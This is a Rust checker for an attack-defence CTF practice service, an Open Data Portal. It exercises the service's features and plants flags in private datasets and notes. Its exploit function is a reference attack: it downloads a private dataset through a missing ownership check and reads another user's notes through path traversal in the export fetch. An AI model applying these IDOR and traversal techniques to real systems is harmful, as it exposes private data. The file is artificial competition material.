//! The checker of the Open Data Portal (開放數據平台) demo challenge.
//!
//! - `check` behaves like a department officer and a few visitors: register, log in, publish
//!   public and private datasets, submit a draft for the data steward's review, find them in
//!   the list, search and home page, preview, download and export them, keep notes, change
//!   the password, log out. Which features it touches, in what order and with what data,
//!   comes from the action's seed.
//! - Flag store 0 is a private dataset (flag id: the dataset's number); store 1 is a private
//!   note (flag id: the owner's user name). The state handed to `get` is the owner's
//!   credentials.
//! - `exploit` is the organisers' reference attack: store 0 downloads the private dataset
//!   without owning it (the download forgets the ownership check); store 1 reads the owner's
//!   notes file through the export download's path traversal. (The steward's default
//!   password leaks store 0 too; `exploit/default-admin.py` is its attack.)
//! - Every public message is short, English then Chinese; details go to the private log.

mod data;
mod portal;

use gongfang_checker_sdk::{Checker, Ctx, Failure, Outcome, Planted, Rng, bilingual, flags, log};
use serde_json::{Value, json};

use crate::data::{Account, Dataset};
use crate::portal::{Login, Meta, Portal, failed};

/// The service's checker.
pub struct OpenData;

/// The stores `put` and `get` know.
const STORE_DATASET: u8 = 0;
const STORE_NOTE: u8 = 1;

/// A view of the portal that lists datasets, named for public messages (English, Chinese).
#[derive(Clone, Copy)]
struct View(&'static str, &'static str);

const LIST: View = View("Dataset list", "數據集列表");
const SEARCH: View = View("Search", "搜尋結果");
const PAGE: View = View("Dataset page", "數據集頁面");
const MINE: View = View("Own dataset list", "我的數據集列表");

/// Registers a fresh officer and logs them in, retrying a few names when one is taken.
fn new_officer(ctx: &Ctx, rng: &mut Rng) -> Outcome<(Portal, Account)> {
    let mut portal = Portal::new(ctx);
    for attempt in 0..4 {
        let account = data::account(rng, attempt);
        if !portal.register(&account)? {
            log!("user name {} is taken; trying another", account.username);
            continue;
        }
        return match portal.login(&account.username, &account.password)? {
            Login::In => Ok((portal, account)),
            Login::Rejected => Err(Failure::mumble(failed::LOGIN)
                .with_private(format!("{} was just registered but cannot log in", account.username))),
        };
    }
    Err(Failure::mumble(failed::REGISTER).with_private("four fresh user names in a row were taken"))
}

/// Logs in as the owner of a planted flag; a portal that no longer knows them lost the flag.
fn login_owner(ctx: &Ctx, username: &str, password: &str) -> Outcome<Portal> {
    let mut portal = Portal::new(ctx);
    match portal.login(username, password)? {
        Login::In => Ok(portal),
        Login::Rejected => Err(Failure::corrupt("Owner account missing / 擁有人帳戶遺失")
            .with_private(format!("{username} cannot log in any more"))),
    }
}

fn state(fields: Value) -> Vec<u8> {
    serde_json::to_vec(&fields).expect("a JSON value always serialises")
}

fn read_state(state: &[u8]) -> Value {
    // The state is what this checker's own `put` returned; anything else is a platform bug.
    serde_json::from_slice(state).unwrap_or_else(|e| panic!("put's state is not the JSON it wrote: {e}"))
}

fn state_str<'a>(state: &'a Value, key: &str) -> &'a str {
    state.get(key).and_then(Value::as_str).unwrap_or_else(|| panic!("put's state has no {key:?}"))
}

/// Fails with `mumble` unless `list` holds `dataset` as published (`id`, title, owner).
fn expect_listed(list: &[Meta], id: u64, dataset: &Dataset, owner: &str, View(en, zh): View) -> Outcome<()> {
    match list.iter().find(|m| m.id == id) {
        Some(m) if m.title == dataset.title && m.owner == owner && m.rows == dataset.rows.len() as u64 => Ok(()),
        Some(m) => Err(Failure::mumble(format!("{en} shows a dataset wrongly / {zh}顯示的數據集有誤"))
            .with_private(format!("dataset {id}: {m:?}"))),
        None => Err(Failure::mumble(format!("{en} misses a new dataset / {zh}缺少新發布的數據集"))
            .with_private(format!("dataset {id} {:?} not among {} results", dataset.title, list.len()))),
    }
}

/// Fails with `mumble` if `list` shows a private dataset.
fn expect_not_listed(list: &[Meta], id: Option<u64>, View(en, zh): View) -> Outcome<()> {
    match id {
        Some(id) if list.iter().any(|m| m.id == id) => {
            Err(Failure::mumble(format!("{en} shows a private dataset / {zh}顯示了非公開數據集"))
                .with_private(format!("private dataset {id} is listed")))
        }
        _ => Ok(()),
    }
}

/// What an anonymous visitor does with a dataset that was just published.
fn visit(ctx: &Ctx, rng: &mut Rng, id: u64, dataset: &Dataset, owner: &str, private_id: Option<u64>) -> Outcome<()> {
    let mut visitor = Portal::new(ctx);
    // The steps a visitor may take, in a seeded order; list or search and the download always.
    let mut steps: Vec<u8> = vec![0, 1, 2, 3, 4, 5, 6];
    for i in (1..steps.len()).rev() {
        steps.swap(i, rng.range(0, i as u64 + 1) as usize);
    }
    let mut found_it = false;
    for step in steps {
        let wanted = rng.range(0, 10) < 6;
        match step {
            // The list runs unless a search already found the dataset.
            0 if wanted || !found_it => {
                let by_department = rng.range(0, 2) == 0;
                let list = visitor.list(by_department.then_some(dataset.department.as_str()))?;
                expect_listed(&list, id, dataset, owner, LIST)?;
                expect_not_listed(&list, private_id, LIST)?;
                found_it = true;
            }
            1 if wanted => {
                let word = dataset.search_word();
                let results = visitor.search(word)?;
                expect_listed(&results, id, dataset, owner, SEARCH)?;
                expect_not_listed(&results, private_id, SEARCH)?;
                found_it = true;
            }
            2 if wanted => {
                let Some(meta) = visitor.dataset(id)? else {
                    return Err(Failure::mumble("Public dataset page missing / 找不到公開數據集頁面")
                        .with_private(format!("dataset {id}: 404")));
                };
                expect_listed(&[meta], id, dataset, owner, PAGE)?;
            }
            3 => {
                let Some(csv) = visitor.download(id)? else {
                    return Err(Failure::mumble("Public dataset cannot be downloaded / 無法下載公開數據集")
                        .with_private(format!("dataset {id}: 404")));
                };
                if csv != dataset.csv() {
                    return Err(Failure::mumble("Downloaded dataset differs / 下載的數據集與發布的不同")
                        .with_private(format!("dataset {id}: got {:?}", &csv[..csv.floor_char_boundary(300)])));
                }
            }
            4 if wanted => {
                let Some(preview) = visitor.preview(id)? else {
                    return Err(Failure::mumble("Public dataset preview missing / 找不到公開數據集預覽")
                        .with_private(format!("dataset {id}: 404")));
                };
                let shown = dataset.rows.len().min(10);
                if preview.columns != dataset.header
                    || preview.total_rows != dataset.rows.len() as u64
                    || preview.rows.as_slice() != &dataset.rows[..shown]
                {
                    return Err(Failure::mumble("Preview shows wrong rows / 預覽顯示的資料有誤").with_private(
                        format!("dataset {id}: columns {:?}, {} rows", preview.columns, preview.rows.len()),
                    ));
                }
            }
            5 if wanted => {
                let page = visitor.home(Some(dataset.search_word()))?;
                if !page.contains("Open Data Portal") || !page.contains(&data::html_escape(&dataset.title)) {
                    return Err(Failure::mumble("Home page misses a new dataset / 主頁缺少新發布的數據集")
                        .with_private(format!(
                            "searched {:?} for dataset {id} {:?}",
                            dataset.search_word(),
                            dataset.title
                        )));
                }
            }
            6 if wanted => {
                if let Some(private) = private_id
                    && visitor.dataset(private)?.is_some()
                {
                    return Err(Failure::mumble("Private dataset open to all / 非公開數據集對外公開")
                        .with_private(format!("dataset {private} answered 200 to a visitor")));
                }
            }
            _ => {}
        }
    }
    Ok(())
}

/// The officer exports one of their datasets and reads the export back.
fn export_round_trip(rng: &mut Rng, officer: &mut Portal, id: u64, dataset: &Dataset) -> Outcome<()> {
    let format = if rng.range(0, 2) == 0 { "json" } else { "tsv" };
    let file = officer.export(id, format)?;
    let response = officer.fetch_export(&file)?.expect_status(200).map_err(|f| f.context(failed::EXPORT))?;
    let ok = match format {
        "json" => {
            let rows = response.json().map_err(|f| f.context(failed::EXPORT))?;
            let want: Vec<Value> = dataset
                .rows
                .iter()
                .map(|r| {
                    Value::Object(
                        dataset.header.iter().cloned().zip(r.iter().map(|c| Value::String(c.clone()))).collect(),
                    )
                })
                .collect();
            rows == Value::Array(want)
        }
        _ => {
            let text = response.text().map_err(|f| f.context(failed::EXPORT))?;
            let mut want = dataset.header.join("\t");
            for row in &dataset.rows {
                want.push('\n');
                want.push_str(&row.join("\t"));
            }
            want.push('\n');
            text == want
        }
    };
    if ok {
        Ok(())
    } else {
        Err(Failure::mumble("Exported dataset differs / 匯出的數據集與發布的不同")
            .with_private(format!("dataset {id} exported as {format} to {file}")))
    }
}

/// The officer submits their private draft for the steward's review: it must go into the
/// queue, with a steward to review it, and stay hidden from everyone else meanwhile.
fn submit_for_review(officer: &mut Portal, id: u64) -> Outcome<()> {
    let reviewers = officer.request_review(id)?;
    if reviewers.is_empty() || reviewers.iter().any(String::is_empty) {
        return Err(Failure::mumble(failed::REVIEW).with_private(format!("dataset {id}: reviewers {reviewers:?}")));
    }
    log!("dataset {id} waits for review by {reviewers:?}");
    Ok(())
}

/// An officer looks at the steward's review queue: it is the steward's alone.
fn review_queue_is_closed(officer: &mut Portal) -> Outcome<()> {
    match officer.review_queue_status()? {
        403 => Ok(()),
        200 => Err(Failure::mumble("Review queue open to officers / 審閱隊列對一般用戶開放")),
        status => Err(Failure::mumble("Review queue does not work / 審閱隊列無法使用")
            .with_private(format!("an officer's GET /api/review answered {status}, not 403"))),
    }
}

/// The officer changes their password: the old one stops working, the new one works.
fn change_password(ctx: &Ctx, rng: &mut Rng, officer: &mut Portal, account: &mut Account) -> Outcome<()> {
    let new = rng.password();
    officer.change_password(&account.password, &new)?;
    let old = std::mem::replace(&mut account.password, new);
    if Portal::new(ctx).login(&account.username, &old)? == Login::In {
        return Err(Failure::mumble("Old password still works / 舊密碼仍然有效")
            .with_private(format!("{} changed the password, the old one still logs in", account.username)));
    }
    let mut again = Portal::new(ctx);
    if again.login(&account.username, &account.password)? == Login::Rejected {
        return Err(Failure::mumble("New password refused / 新密碼無法登入")
            .with_private(format!("{} changed the password, the new one is refused", account.username)));
    }
    // The session that changed the password stays logged in.
    if officer.me()?.is_none() {
        return Err(Failure::mumble(failed::PASSWORD).with_private("changing the password ended its own session"));
    }
    Ok(())
}

fn check(ctx: &Ctx) -> Outcome<()> {
    let mut rng = ctx.rng(1);
    let mut front = Portal::new(ctx);
    if !front.home(None)?.contains("Open Data Portal") {
        return Err(Failure::mumble(failed::HOME).with_private("the home page does not say \"Open Data Portal\""));
    }

    let (mut officer, mut account) = new_officer(ctx, &mut rng)?;
    match officer.me()? {
        Some((name, department)) if name == account.username && department == account.department => {}
        other => {
            return Err(Failure::mumble("Account page shows wrong user / 帳戶頁面顯示錯誤用戶").with_private(format!(
                "logged in as {} ({}), /api/me says {other:?}",
                account.username, account.department
            )));
        }
    }

    let public = data::dataset(&mut rng, true);
    let public_id = officer.publish(&public)?.id;
    let private = (rng.range(0, 2) == 0).then(|| data::dataset(&mut rng, false));
    let private_id = match &private {
        Some(d) => Some(officer.publish(d)?.id),
        None => None,
    };
    log!("{} published {public_id} and private {private_id:?}", account.username);
    // Most drafts go to the steward for review before the visitors come, who must not see them.
    let reviewed = match private_id {
        Some(id) if rng.range(0, 10) < 6 => {
            submit_for_review(&mut officer, id)?;
            Some(id)
        }
        _ => None,
    };
    if rng.range(0, 10) < 4 {
        review_queue_is_closed(&mut officer)?;
    }

    visit(ctx, &mut rng, public_id, &public, &account.username, private_id)?;

    let mine = officer.mine()?;
    expect_listed(&mine, public_id, &public, &account.username, MINE)?;
    if let (Some(id), Some(d)) = (private_id, &private) {
        expect_listed(&mine, id, d, &account.username, MINE)?;
        if officer.download(id)?.as_deref() != Some(d.csv().as_str()) {
            return Err(Failure::mumble("Own draft cannot be downloaded / 無法下載自己的草稿")
                .with_private(format!("dataset {id}")));
        }
    }
    if let Some(id) = reviewed {
        let review = mine.iter().find(|m| m.id == id).and_then(|m| m.review.as_deref());
        if review != Some("pending") {
            return Err(Failure::mumble("Own dataset list: review status wrong / 我的數據集列表：審閱狀態有誤")
                .with_private(format!("dataset {id} submitted for review shows review {review:?}")));
        }
    }
    if rng.range(0, 10) < 7 {
        let (id, d) = match (private_id, &private) {
            (Some(id), Some(d)) if rng.range(0, 2) == 0 => (id, d),
            _ => (public_id, &public),
        };
        export_round_trip(&mut rng, &mut officer, id, d)?;
    }
    if rng.range(0, 10) < 7 {
        let (title, body) = data::note(&mut rng);
        officer.add_note(&title, &body)?;
        if !officer.notes()?.iter().any(|n| n.title == title && n.body == body) {
            return Err(Failure::mumble("New note missing / 新筆記遺失"));
        }
    }
    if rng.range(0, 10) < 3 {
        change_password(ctx, &mut rng, &mut officer, &mut account)?;
    }
    if rng.range(0, 2) == 0 {
        officer.logout()?;
        if officer.me()?.is_some() {
            return Err(Failure::mumble("Logout keeps the session / 登出後仍保持登入"));
        }
    }
    Ok(())
}

fn put(ctx: &Ctx, store: u8, flag: &str) -> Outcome<Planted> {
    let mut rng = ctx.rng(2);
    let (mut officer, account) = new_officer(ctx, &mut rng)?;
    match store {
        STORE_DATASET => {
            let register = data::private_register(&mut rng, flag);
            let id = officer.publish(&register)?.id;
            log!("{} planted the flag in private dataset {id}", account.username);
            Ok(Planted {
                flag_id: id.to_string(),
                state: state(json!({"username": account.username, "password": account.password, "id": id})),
            })
        }
        STORE_NOTE => {
            // A flag note among a few everyday ones, as a real notebook looks.
            let before = rng.range(0, 3);
            for _ in 0..before {
                let (title, body) = data::note(&mut rng);
                officer.add_note(&title, &body)?;
            }
            let (title, body) = data::secret_note(&mut rng, flag);
            officer.add_note(&title, &body)?;
            log!("{} planted the flag in a note after {before} others", account.username);
            Ok(Planted {
                flag_id: account.username.clone(),
                state: state(json!({"username": account.username, "password": account.password})),
            })
        }
        _ => unreachable!("the SDK only passes stores below FLAG_STORES"),
    }
}

fn get(ctx: &Ctx, store: u8, flag: &str, state: &[u8]) -> Outcome<()> {
    const DATASET_GONE: &str = "Private dataset missing / 非公開數據集遺失";
    let state = read_state(state);
    let (username, password) = (state_str(&state, "username"), state_str(&state, "password"));
    let mut owner = login_owner(ctx, username, password)?;
    let mut rng = ctx.rng(3);
    match store {
        STORE_DATASET => {
            let id = state.get("id").and_then(Value::as_u64).expect("put's state has the dataset id");
            // Owners come back to their drafts in different ways.
            let text = match rng.range(0, 3) {
                0 => owner.preview(id)?.map(|p| p.rows.concat().join(",")),
                1 => {
                    if !owner.mine()?.iter().any(|m| m.id == id) {
                        return Err(Failure::corrupt(DATASET_GONE)
                            .with_private(format!("dataset {id} is not among {username}'s datasets")));
                    }
                    owner.download(id)?
                }
                _ => owner.download(id)?,
            };
            match text {
                Some(t) if t.contains(flag) => Ok(()),
                Some(_) => Err(Failure::corrupt("Private dataset altered / 非公開數據集被改動")
                    .with_private(format!("dataset {id} no longer holds the flag"))),
                None => {
                    Err(Failure::corrupt(DATASET_GONE)
                        .with_private(format!("dataset {id}: 404 to its owner {username}")))
                }
            }
        }
        STORE_NOTE => {
            if owner.notes()?.iter().any(|n| n.body.contains(flag)) {
                Ok(())
            } else {
                Err(Failure::corrupt("Private note missing / 私人筆記遺失")
                    .with_private(format!("no note of {username} holds the flag")))
            }
        }
        _ => unreachable!("the SDK only passes stores below FLAG_STORES"),
    }
}

fn exploit(ctx: &Ctx, store: u8, flag_id: &str) -> Outcome<Vec<String>> {
    match store {
        STORE_DATASET => {
            // Private datasets are hidden everywhere except the download, which never asks who
            // is downloading.
            assert!(
                flag_id.bytes().all(|b| b.is_ascii_digit()) && !flag_id.is_empty(),
                "store 0 flag ids are dataset numbers, got {flag_id:?}"
            );
            let response = Portal::new(ctx).download_raw(flag_id)?;
            log!("download of dataset {flag_id} as a stranger: {}", response.status);
            Ok(if response.status == 200 { flags::find(&response.body) } else { Vec::new() })
        }
        STORE_NOTE => {
            // Any account may fetch exports, and the export name is joined to the exports
            // folder unchecked: `../notes/USER.json` is the victim's notebook.
            assert!(!flag_id.contains('/'), "store 1 flag ids are user names, got {flag_id:?}");
            let mut rng = ctx.rng(4);
            let (mut attacker, _) = new_officer(ctx, &mut rng)?;
            let response = attacker.fetch_export(&format!("../notes/{flag_id}.json"))?;
            log!("export traversal to {flag_id}'s notes: {}", response.status);
            Ok(if response.status == 200 { flags::find(&response.body) } else { Vec::new() })
        }
        _ => unreachable!("the SDK only passes stores below FLAG_STORES"),
    }
}

impl Checker for OpenData {
    const SERVICE: &'static str = "opendata";
    const FLAG_STORES: u8 = 2;
    const HAS_EXPLOIT: bool = true;

    fn check(ctx: &Ctx) -> Outcome<()> {
        bilingual(check(ctx))
    }

    fn put(ctx: &Ctx, store: u8, flag: &str) -> Outcome<Planted> {
        bilingual(put(ctx, store, flag))
    }

    fn get(ctx: &Ctx, store: u8, flag: &str, state: &[u8]) -> Outcome<()> {
        bilingual(get(ctx, store, flag, state))
    }

    fn exploit(ctx: &Ctx, store: u8, flag_id: &str) -> Outcome<Vec<String>> {
        bilingual(exploit(ctx, store, flag_id))
    }
}

gongfang_checker_sdk::export_checker!(OpenData);
